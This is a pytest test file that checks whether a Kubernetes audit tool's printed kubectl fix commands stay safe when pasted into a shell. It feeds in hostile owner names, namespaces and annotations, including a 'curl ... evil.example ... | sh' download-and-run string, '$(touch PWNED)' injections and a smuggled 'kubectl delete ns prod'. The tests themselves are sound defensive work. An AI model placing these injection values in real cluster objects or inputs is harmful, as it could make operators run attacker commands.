"""`audit`'s printed block meets a shell: hostile owners, names and annotations.

Any pod creator controls a pod's `ownerReferences`, labels and annotations,
and the README tells operators to paste what `audit` prints. Each case here is
an attack on that paste: the block is checked with `sh -n`, then run by a real
shell whose `kubectl` is a fake that records its argv. Exactly the intended
commands run, with exactly the intended arguments, and nothing else does.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.test_audit import live, run

CANARY = "PWNED"
HOSTILE_OWNERS = [
    ("StatefulSet", "web;curl -s http://evil.example/x|sh;#"),
    ("StatefulSet", f"x$(touch {CANARY})"),
    ("StatefulSet", f"x`touch {CANARY}`"),
    ("DaemonSet", f"a'b\"c; touch {CANARY}"),
    ("Deployment", f"web\ntouch {CANARY}"),
    (f"StatefulSet\ntouch {CANARY}", "web"),
    (f"Deployment\rtouch {CANARY}", "web"),
    ("StatefulSet", "web\u2028touch PWNED"),
    ("StatefulSet", "d\u0456fy-api"),  # a Cyrillic i: looks valid, is not a Kubernetes name
    ("StatefulSet", "web\u202etxt.hs"),  # a right-to-left override
    ("ConfigMap", "dify-api"),
    ("Job", "../../etc"),
    ("Job", "-rf"),
    ("StatefulSet", "x" * 300),
]


def hostile_cluster() -> dict[str, Any]:
    items = []
    for index, (kind, name) in enumerate(HOSTILE_OWNERS):
        pod = live("helm-api.yaml", f"evil-{index}", owner=("StatefulSet", "placeholder"))
        pod["metadata"]["ownerReferences"][0].update(kind=kind, name=name)
        items.append(pod)
    # A ReplicaSet whose hash makes a hostile Deployment name.
    tricky = live("helm-api.yaml", "evil-rs", owner=("ReplicaSet", "dify-api-7d9f"))
    tricky["metadata"]["ownerReferences"][0]["name"] = f"$(touch {CANARY})-7d9f"
    items.append(tricky)
    # A hostile namespace, pod name and annotations on an otherwise valid owner.
    odd = live("helm-worker-with-init.yaml", "evil-ns", owner=("StatefulSet", "dify-worker"))
    odd["metadata"]["namespace"] = f"dify;touch {CANARY}"
    odd["metadata"]["annotations"] = {"note": "x\nkubectl delete ns prod"}
    items.append(odd)
    named = live("helm-api.yaml", f"p\n$(touch {CANARY})", owner=("Job", "migrate"))
    items.append(named)
    # A volume name echoed in the finding: it cannot start a line of its own.
    volume = live("helm-api.yaml", "evil-volume", owner=("StatefulSet", "dify-api"))
    hostile = "data\nkubectl delete ns prod\u202e"
    original = volume["spec"]["volumes"][0]["name"]
    volume["spec"]["volumes"][0]["name"] = hostile
    for container in volume["spec"]["containers"]:
        for mount in container.get("volumeMounts", []):
            if mount["name"] == original:
                mount["name"] = hostile
    items.append(volume)
    # The valid ones next to them: their commands run exactly.
    items.append(live("helm-api.yaml", "good-0", owner=("StatefulSet", "dify-api")))
    items.append(live("helm-api.yaml", "good-1", owner=("Job", "dify-migrate")))
    items.append(live("helm-api.yaml", "good-2", owner=("ReplicaSet", "dify-api-5c4b9")))
    # A ReplicaSet with no Deployment (its name does not end in the hash): deleted.
    alone = live("helm-api.yaml", "good-3", owner=("ReplicaSet", "dify-api-5c4b9"))
    alone["metadata"]["labels"]["pod-template-hash"] = "zzz"
    items.append(alone)
    return {"apiVersion": "v1", "kind": "List", "items": items}


@pytest.fixture
def printed(tmp_path: Path) -> str:
    listing = tmp_path / "pods.json"
    listing.write_text(json.dumps(hostile_cluster()))
    result = run("-f", str(listing))
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    return result.stdout


def test_every_printed_line_is_one_the_report_made(printed: str) -> None:
    """Guards against forged lines: a newline, carriage return or line separator in any
    value is escaped, so every line is a finding, a comment, a command or the blank."""
    lines = printed.split("\n")
    assert lines[-1] == ""
    for line in lines[:-1]:
        assert line == "" or line.startswith(("dify/", "ai/", "dify;", "#", "kubectl ")), line
        assert line.isprintable(), repr(line)
    commands = [line for line in lines if line.startswith("kubectl ")]
    assert commands == [
        "kubectl -n dify rollout restart statefulset/dify-api",
        "kubectl -n dify delete pod good-1  # Job dify-migrate re-creates it",
        "kubectl -n dify rollout restart deployment/dify-api",
        "kubectl -n dify delete pod good-3  # ReplicaSet dify-api-5c4b9 re-creates it",
    ]
    # each hostile pod is named with the reason it has no command
    for index in range(len(HOSTILE_OWNERS)):
        assert f"# no command for pod dify/evil-{index}: " in printed, index
    assert "not one audit knows" in printed and "'ConfigMap'" in printed
    assert "is not a valid Kubernetes name" in printed
    assert "x\\nkubectl delete ns prod" not in printed  # annotations are not echoed at all
    assert "fixes data\\nkubectl delete ns prod\\u202e at /app/api/storage" in printed


def test_the_block_pasted_into_a_shell_runs_exactly_the_intended_commands(
    printed: str, tmp_path: Path
) -> None:
    """Guards the paste itself: `sh -n` accepts the block, and a shell running it calls
    the fake kubectl with exactly the intended argv; no canary file appears."""
    block = printed[printed.index("# to fix") :]
    script = tmp_path / "fix.sh"
    script.write_text(block)
    syntax = subprocess.run(["sh", "-n", str(script)], capture_output=True, text=True, check=False)
    assert syntax.returncode == 0, syntax.stderr
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    record = tmp_path / "argv.log"
    fake = bin_dir / "kubectl"
    fake.write_text(
        "#!/bin/sh\n"
        f'for a in "$@"; do printf "%s\\0" "$a" >> {record}; done\n'
        f'printf "\\n\\0" >> {record}\n'
    )
    fake.chmod(0o755)
    work = tmp_path / "cwd"
    work.mkdir()
    ran = subprocess.run(
        ["sh", str(script)],
        cwd=work,
        env={"PATH": f"{bin_dir}:{os.environ['PATH']}"},
        capture_output=True,
        text=True,
        check=False,
    )
    assert ran.returncode == 0, ran.stderr
    calls = [c.split("\0")[:-1] for c in record.read_text().split("\n\0") if c]
    assert calls == [
        ["-n", "dify", "rollout", "restart", "statefulset/dify-api"],
        ["-n", "dify", "delete", "pod", "good-1"],
        ["-n", "dify", "rollout", "restart", "deployment/dify-api"],
        ["-n", "dify", "delete", "pod", "good-3"],
    ]
    assert list(work.iterdir()) == [] and not (tmp_path / CANARY).exists()


def test_commands_are_shell_quoted_even_past_validation() -> None:
    """Guards the second line of defence: should validation ever let a value through,
    the command still quotes every word (shlex)."""
    from webhook.review import audit

    command = audit._command("-n", "dify", "delete", "pod", "x$(touch PWNED);y")
    assert command == "kubectl -n dify delete pod 'x$(touch PWNED);y'"
    assert audit.printable("a\nb\x1b[2Jc\u2028d\u202e") == "a\\nb\\x1b[2Jc\\u2028d\\u202e"
